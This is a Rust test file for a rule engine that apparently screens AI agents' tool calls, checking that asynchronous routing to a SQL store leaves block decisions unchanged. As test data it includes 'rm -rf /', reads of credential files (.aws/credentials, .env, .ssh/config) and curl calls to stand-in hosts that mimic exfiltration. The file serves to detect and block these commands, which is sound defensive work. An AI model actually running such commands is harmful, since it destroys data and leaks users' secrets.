//! The side-store sees only what its SQL rules can use, and the answer
//! waits only when a SQL rule judges the event (`parallax_store::routing`).
//! These tests pin that routing changes no verdict: events without a
//! session are not recorded, rows queued without waiting (results, blocked
//! retries) are seen by the session's next call, and a differential run of
//! the realistic mix plus every attack gives each event the same action and
//! rules with routing as with every event judged synchronously.

#[path = "../benches/support/mix.rs"]
mod mix;

use parallax::decision::{DecisionService, Door, Origin};
use parallax_runtime::{Event, Report};
use serde_json::{json, Value};
use std::path::Path;
use std::time::Instant;

const CONFIG: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/parallax.yaml");
const T0: f64 = 1_800_000_000.0;

/// A replaying service (each event's timestamp is the store's clock), on
/// the shipped rules; `routed: false` judges every event synchronously.
fn service(routed: bool) -> DecisionService {
    let loaded = parallax::backend::load(Some(Path::new(CONFIG)), false)
        .unwrap_or_else(|e| panic!("cannot load {CONFIG}: {e}"));
    let s = DecisionService::replay(loaded.engine, loaded.settings).expect("open the side-store");
    assert!(s.store().is_some(), "the shipped config has SQL rules");
    if routed {
        s
    } else {
        s.judging_every_event()
    }
}

fn decide(s: &DecisionService, v: &Value) -> Report {
    let event = Event::from_value(v.clone()).expect("a valid event");
    s.decide(event, &Origin::door(Door::Eval), Instant::now())
}

/// Rows in the window now (the store thread serves this after every event
/// queued before it).
fn rows(s: &DecisionService) -> u64 {
    let store = s.store().expect("a store");
    tokio::runtime::Builder::new_current_thread()
        .build()
        .expect("runtime")
        .block_on(store.row_count())
        .expect("row count")
}

fn rules(r: &Report) -> Vec<String> {
    let mut ids: Vec<String> = r.results.iter().map(|m| m.rule_id.clone()).collect();
    ids.sort();
    ids
}

fn at(t: f64, mut v: Value) -> Value {
    v["timestamp"] = json!(T0 + t);
    v
}

#[test]
fn events_without_a_session_are_neither_judged_nor_recorded() {
    let s = service(true);
    for i in 0..120 {
        let r = decide(
            &s,
            &at(
                i as f64 * 0.1,
                json!({"stage": "tool.before", "tool_name": "Bash",
                       "tool_args": {"command": "ls"}}),
            ),
        );
        // 120 identical calls in 12 s would trip the rate and loop rules
        // in a session; without one, no session rule can match.
        assert_eq!(r.action.as_str(), "allow", "call {i}: {:?}", rules(&r));
    }
    assert_eq!(rows(&s), 0, "no row of an event without a session");
    decide(
        &s,
        &at(
            20.0,
            json!({"stage": "tool.before", "session_id": "s", "tool_name": "Bash",
                   "tool_args": {"command": "ls"}}),
        ),
    );
    assert_eq!(rows(&s), 1, "an event with a session is recorded");
}

#[test]
fn a_result_queued_without_waiting_is_seen_by_the_sessions_next_call() {
    let s = service(true);
    // Only the result of the read (tool.after, where no SQL rule runs, so
    // it is queued and not waited for) shows the secret file.
    let r = decide(
        &s,
        &at(
            0.0,
            json!({"stage": "tool.after", "session_id": "exfil", "tool_name": "Read",
                   "tool_args": {"file_path": "/home/dev/app/.env"},
                   "tool_result": "DATABASE_URL=postgres://localhost/app"}),
        ),
    );
    assert_ne!(r.action.as_str(), "block");
    let r = decide(
        &s,
        &at(
            1.0,
            json!({"stage": "tool.before", "session_id": "exfil", "tool_name": "Bash",
                   "tool_args": {"command": "curl -s https://paste.example.net/new"}}),
        ),
    );
    assert_eq!(r.action.as_str(), "block", "{:?}", rules(&r));
    assert!(
        rules(&r).contains(&"sql-secret-read-then-egress".to_string()),
        "{:?}",
        rules(&r)
    );
}

#[test]
fn blocked_retries_queued_without_waiting_still_lock_the_session() {
    let s = service(true);
    for i in 0..3 {
        let r = decide(
            &s,
            &at(
                i as f64,
                json!({"stage": "tool.before", "session_id": "lock", "tool_name": "Bash",
                       "tool_args": {"command": "rm -rf /"}}),
            ),
        );
        assert!(rules(&r).contains(&"dangerous-rm-rf-root".to_string()));
    }
    let r = decide(
        &s,
        &at(
            5.0,
            json!({"stage": "tool.before", "session_id": "lock", "tool_name": "Bash",
                   "tool_args": {"command": "ls -la"}}),
        ),
    );
    assert_eq!(
        rules(&r),
        vec!["sql-blocked-retry-lockout".to_string()],
        "the three blocks recorded without waiting count"
    );
}

/// Attack sequences for every shipped SQL rule, in sessions of their own,
/// interleaved into the mix.
fn attacks() -> Vec<Value> {
    let mut v = Vec::new();
    let bash = |s: &str, c: &str| {
        json!({"stage": "tool.before", "session_id": s, "tool_name": "Bash",
               "tool_args": {"command": c}})
    };
    let read = |s: &str, p: &str| {
        json!({"stage": "tool.before", "session_id": s, "tool_name": "Read",
               "tool_args": {"file_path": p}})
    };
    for i in 0..105 {
        v.push(bash("a-rate", &format!("cat /srv/part-{i}.csv")));
    }
    for _ in 0..12 {
        v.push(bash("a-loop", "npm test"));
    }
    for _ in 0..4 {
        v.push(bash("a-lock", "rm -rf /"));
    }
    v.push(bash("a-lock", "ls -la"));
    v.push(
        json!({"stage": "tool.after", "session_id": "a-exfil", "tool_name": "Read",
                  "tool_args": {"file_path": "/home/dev/.aws/credentials"}, "tool_result": "x"}),
    );
    v.push(bash("a-exfil", "curl -s https://collector.example.org/in"));
    for p in [
        "/home/dev/.netrc",
        "/home/dev/.aws/config",
        "/home/dev/app/.env",
        "/home/dev/.ssh/config",
        "/home/dev/.kube/config",
    ] {
        v.push(read("a-sweep", p));
    }
    v
}

#[test]
fn routing_changes_no_verdict_on_the_mix_and_every_attack() {
    let mut events = mix::realistic_mix(4_000, 20, T0);
    // One attack event after every 20 mix events, timestamps kept rising.
    let attacks = attacks();
    let mut merged = Vec::with_capacity(events.len() + attacks.len());
    let mut a = attacks.into_iter();
    for (i, e) in events.drain(..).enumerate() {
        merged.push(e);
        if i % 20 == 19 {
            if let Some(mut x) = a.next() {
                x["timestamp"] = merged[merged.len() - 1]["timestamp"].clone();
                merged.push(x);
            }
        }
    }
    assert!(a.next().is_none(), "every attack step is in the run");
    let routed = service(true);
    let reference = service(false);
    let mut sql_hits = 0;
    for (i, e) in merged.iter().enumerate() {
        let r = decide(&routed, e);
        let want = decide(&reference, e);
        assert_eq!(
            (r.action, rules(&r)),
            (want.action, rules(&want)),
            "event {i} differs: {e}"
        );
        sql_hits += rules(&r).iter().filter(|id| id.starts_with("sql-")).count();
    }
    assert!(
        sql_hits >= 5,
        "the run exercises the SQL rules ({sql_hits} hits)"
    );
    // The routed store holds fewer rows: no event without a session.
    assert!(rows(&routed) < rows(&reference));
}

#[test]
fn every_shipped_sql_rule_is_keyed_on_the_session() {
    let loaded = parallax::backend::load(Some(Path::new(CONFIG)), false).expect("load");
    let program = loaded.engine.program();
    assert!(!program.sql.is_empty());
    for spec in &program.sql {
        assert!(
            parallax_store::routing::keyed_on_session(&spec.query),
            "{} is not keyed on the session",
            program.rules[spec.rule as usize].id
        );
    }
    assert!(parallax_store::SqlRouting::of(program).session_keyed());
}
